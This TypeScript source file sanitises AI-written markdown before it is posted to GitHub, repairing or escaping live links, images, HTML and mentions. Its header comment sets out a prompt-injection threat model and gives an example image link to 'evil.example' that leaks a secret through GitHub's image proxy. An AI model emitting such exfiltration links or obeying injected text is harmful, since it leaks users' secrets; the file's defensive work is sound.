// Model-authored markdown made safe to post on GitHub. The model read untrusted text (issues, code,
// web pages), so what it writes may carry an attacker's payload: an image whose URL leaks a secret the
// moment GitHub's image proxy fetches it (`![x](https://evil.example/?q=SECRET)`), a link that looks
// like ours, raw HTML, a mention that pings a whole team.
//
// Three steps, each failing closed:
// 1. The text is parsed once (src/markdown/) and rewritten construct by construct as the parser read
//    it (sanitizer/rewrite.ts): block structure, emphasis and fenced code are kept; code spans on one
//    line and allowed links stay; HTML, other links and images, autolinks and mentions are
//    neutralised. Lines that may be GFM table rows (the parser's tables, and any run of lines shaped
//    like one) hold no code span or link across a cell-splitting "|". A fence's info string keeps its
//    language word only (diagram and math languages become "text").
// 2. The result is parsed again and every live construct in it is checked against the same host policy
//    (src/markdown/live.ts). What the parser still finds live (where a rewrite changed how its
//    neighbours read) is repaired in place — its "<" or "[" escaped, its URL made code, its "@" broken —
//    and checked again. Only output in which the parser finds nothing live is returned, with a fence it
//    leaves open at the top level closed, so what follows the text cannot be swallowed by it.
// The parser is loaded once, when a run's report is about to be written (loadMarkdownParser); should a
// caller render before that, every line is escaped as plain text.
// 3. Should repairs not settle it, every line is escaped as plain text (nothing can form), checked the
//    same way; and should even that not pass, the text is shown as one code block.
//
// Size: the output is at most OUTPUT_FACTOR times the input plus a constant (a neutralised image of a
// few characters is the worst case); the test suite checks it on hostile input.
import { blockLayout, type LineLayout } from "../markdown/layout";
import { inspectMarkdown, type LiveConstruct } from "../markdown/live";
import { tooCostlyToParse } from "../markdown/parse-cost";
import { inlinePieces } from "../markdown/inline";
import { markdownEvents, markdownParserLoaded } from "../markdown/parse";
import { clip } from "./caps";
import { codeBlock, plainText } from "./markdown";
import { cleanText, MENTION_BREAK } from "./sanitizer/characters";
import { codeSpan } from "./sanitizer/code-span";
import { createHostPolicy, type HostPolicy, isKeepableDestination } from "./sanitizer/hosts";
import { tooCostlyToReadAsParsed, tryEscapeCostlyParagraphs } from "./sanitizer/dense-paragraphs";
import { rewriteMarkdown } from "./sanitizer/rewrite";

export interface SanitizeOptions {
  /**
   * Where links and images may point: host names (`github.com`), `*.example.com` for subdomains, or
   * URL prefixes (`https://github.com/owner/repo`). Relative links resolve on GitHub and follow its rules.
   */
  allowedHosts: readonly string[];
  /**
   * Hosts that are GitHub sites (default `github.com`): there only repositories' own pages (code,
   * issues, pull requests, commits, runs, releases…) and uploaded attachments may be linked, never
   * account pages such as `/login`, `/settings` or an app's installation page.
   */
  githubHosts?: readonly string[];
}

/**
 * Longer text is clipped before anything is done with it: no surface shows more of the model's words
 * (a summary is rarely a tenth of this), and the parser's time grows faster than the text on some
 * hostile input (micromark's text merging and GFM's footnote calls are quadratic in the brackets and
 * constructs of one paragraph: about 0.4 s for 20,000 characters of the worst we know, 1.9 s for 40,000).
 */
export const MAX_INPUT = 20_000;

/** Sanitised output is at most this many times as long as its input, plus OUTPUT_SLACK characters. */
export const OUTPUT_FACTOR = 8;
export const OUTPUT_SLACK = 64;

export function sanitizeModelMarkdown(text: string, options: SanitizeOptions): string {
  const clean = cleanText(clip(text, MAX_INPUT));
  // Without the parser nothing can be kept as markdown with certainty: everything is escaped (and not
  // kept for later calls, which may have the parser).
  if (!markdownParserLoaded()) return renderEscaped(clean);
  const key = JSON.stringify([options.allowedHosts, options.githubHosts ?? null, clean]);
  const kept = recentResults.get(key);
  if (kept !== undefined) {
    recentResults.delete(key);
    recentResults.set(key, kept);
    return kept;
  }
  const sanitized = sanitizeClean(clean, createHostPolicy(options.allowedHosts, options.githubHosts));
  recentResults.set(key, sanitized);
  for (const oldest of recentResults.keys()) {
    if (recentResults.size <= RECENT_RESULTS) break;
    recentResults.delete(oldest);
  }
  return sanitized;
}

/**
 * The last results, by text and hosts (the result hangs on nothing else). The final tracking comment
 * and the step summary quote the same summary and plan, a comment may be written twice at the end of a
 * run, and sanitising is most of a render's time (0.1 s or more for a long dense summary).
 */
const recentResults = new Map<string, string>();
const RECENT_RESULTS = 8;

function sanitizeClean(clean: string, policy: HostPolicy): string {
  // A text shaped to make the parser slow is escaped whole (20,000 brackets take it ~25 s; a model
  // steered by hostile input could write one and hold the report back).
  if (tooCostlyToParse(clean) !== undefined) return renderEscaped(clean);
  // A paragraph dense with marks the parser looks back or ahead from has them escaped (not those of its
  // URLs and code spans, nor the fences and code next to it), the rest is read as markdown: each
  // reading then costs at most a constant per character. Should that escaping change which lines are
  // code (an escaped "<!--" no longer hides a fence below it) or leave the text too costly to read,
  // the whole text is.
  const readable = tryEscapeCostlyParagraphs(clean);
  if (readable === undefined) return renderEscaped(clean);
  const first = sanitizeParsed(readable.text, policy, readable.original);
  // A neutralised line can change how the lines after it are read (an escaped "<" ends an HTML block,
  // so a fence below it opens): the output is read once more as input, so what is posted is what the
  // sanitiser itself would make of it. Both readings are safe; the second is kept within the size bound
  // (and skipped when the first's escapes made the text too costly to read again).
  if (tooCostlyToReadAsParsed(first)) return first;
  const second = sanitizeParsed(first, policy);
  return second.length <= OUTPUT_FACTOR * clean.length + OUTPUT_SLACK ? second : first;
}

/** `clean` sanitised; `original` gives its parts as written when it was escaped before (see rewrite.ts). */
function sanitizeParsed(
  clean: string,
  policy: HostPolicy,
  original?: (start: number, end: number) => string,
): string {
  const keep = (raw: string) => isKeepableDestination(raw, policy);
  let out = renderByConstructs(clean, policy, original);
  for (let round = 0; round <= MAX_REPAIR_ROUNDS; round++) {
    // The escapes and references the rewriting adds are pieces the parser keeps apart, as any: an output
    // they make too costly to read is not read, but escaped whole, as such an input is.
    if (tooCostlyToParse(out) !== undefined) break;
    const readable = readableRewrite(out);
    if (readable === undefined) break;
    out = readable;
    const { live, unclosedFence } = inspectMarkdown(out, keep);
    // A fence left open is closed, so what follows the text cannot be swallowed by it (a closing
    // fence ends code; it makes nothing live).
    if (live.length === 0) return unclosedFence === undefined ? out : `${out}\n${unclosedFence}`;
    if (round < MAX_REPAIR_ROUNDS) out = repair(out, live);
  }
  // As written: every mark is escaped now, and an escape added before would show.
  const written = original?.(0, clean.length) ?? clean;
  const escaped = renderEscaped(written);
  if (tooCostlyToParse(escaped) !== undefined) return escaped;
  return inspectMarkdown(escaped, keep).live.length === 0 ? escaped : codeBlock(written);
}

/**
 * A rewrite or repair as the parser may read it: with its dense paragraphs escaped, or undefined when
 * that cannot be done. The input's paragraphs were measured before it was read, but a rewrite can join
 * them: an HTML block ("> </details>") neutralised to text makes the lines after it lazy continuation
 * lines of its paragraph, so short paragraphs of a few "]" each became one with hundreds (found by the
 * dense-paragraph property: "> </details>\n]\n" 300 times).
 */
function readableRewrite(text: string): string | undefined {
  return tooCostlyToReadAsParsed(text) ? tryEscapeCostlyParagraphs(text)?.text : text;
}

/** Rounds of repair before the sanitiser gives up on keeping the text's markdown. */
const MAX_REPAIR_ROUNDS = 3;

/** Each live construct made inert where it starts; the rest of the text is left as it is. */
function repair(text: string, live: readonly LiveConstruct[]): string {
  const edits = new Map<number, { end: number; text: string }>();
  for (const found of live) {
    if (edits.has(found.at)) continue;
    if (found.kind === "html") edits.set(found.at, { end: found.at + 1, text: "&lt;" });
    else if (found.kind === "link") edits.set(found.at, { end: found.at, text: "\\" });
    else if (found.kind === "mention") edits.set(found.at, { end: found.at + 1, text: `@${MENTION_BREAK}` });
    else {
      // Kept apart from a backtick or backslash just before, which would change how the span pairs.
      const gap = /[`\\]/.test(text[found.at - 1] ?? "") ? " " : "";
      edits.set(found.at, { end: found.end, text: `${gap}${codeSpan(text.slice(found.at, found.end))} ` });
    }
  }
  const out: string[] = [];
  let cursor = 0;
  for (const at of [...edits.keys()].sort((a, b) => a - b)) {
    const edit = edits.get(at);
    if (edit === undefined || at < cursor) continue;
    out.push(text.slice(cursor, at), edit.text);
    cursor = edit.end;
  }
  out.push(text.slice(cursor));
  return out.join("");
}

/** The text rewritten construct by construct, from one full parse (see sanitizer/rewrite.ts). */
function renderByConstructs(
  text: string,
  policy: HostPolicy,
  original?: (start: number, end: number) => string,
): string {
  const events = markdownEvents(text);
  const layout = blockLayout(text, events).lines;
  const lines = text.split("\n");
  const capable = tableCapableLines(lines, layout);
  const tableLines = layout.map((line, i) => line.table || capable[i] === true);
  const starts = lineStarts(lines);
  const tableRow = (offset: number) => tableLines[lineAt(starts, offset)] === true;
  return rewriteMarkdown(text, inlinePieces(text, events), { policy, tableRow, original });
}

function lineStarts(lines: readonly string[]): number[] {
  const starts: number[] = [];
  let offset = 0;
  for (const line of lines) {
    starts.push(offset);
    offset += line.length + 1;
  }
  return starts;
}

/** The 0-based line holding `offset`, given where each line starts. */
function lineAt(starts: readonly number[], offset: number): number {
  let lo = 0;
  let hi = starts.length - 1;
  while (lo < hi) {
    const mid = (lo + hi + 1) >> 1;
    if ((starts[mid] ?? 0) <= offset) lo = mid;
    else hi = mid - 1;
  }
  return lo;
}

/** The fallback: every line as plain text (all punctuation escaped), so no construct can form. */
function renderEscaped(text: string): string {
  return text
    .split("\n")
    .map((line) => plainText(line))
    .join("\n");
}

/** A GFM delimiter row ("| --- | :-: |", "---"), after any quote markers and indentation. */
const DELIMITER_ROW = /^\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$/;

/**
 * Lines that may be table rows though the parser found no table: every prose line of a run (lines
 * between blank lines and code) with something shaped like a delimiter row. GitHub's table extension
 * and ours could disagree on an odd table; splitting at pipes where there is no table only costs looks.
 */
function tableCapableLines(lines: readonly string[], layout: readonly LineLayout[]): boolean[] {
  const flags = lines.map(() => false);
  let start = 0;
  for (let i = 0; i <= lines.length; i++) {
    const ends = i === lines.length || layout[i]?.kind !== "prose" || (lines[i] ?? "").trim() === "";
    if (!ends) continue;
    const run = lines.slice(start, i);
    if (run.some((line) => DELIMITER_ROW.test(line.replace(/^[ \t>]*/, ""))))
      for (let j = start; j < i; j++) flags[j] = true;
    start = i + 1;
  }
  return flags;
}
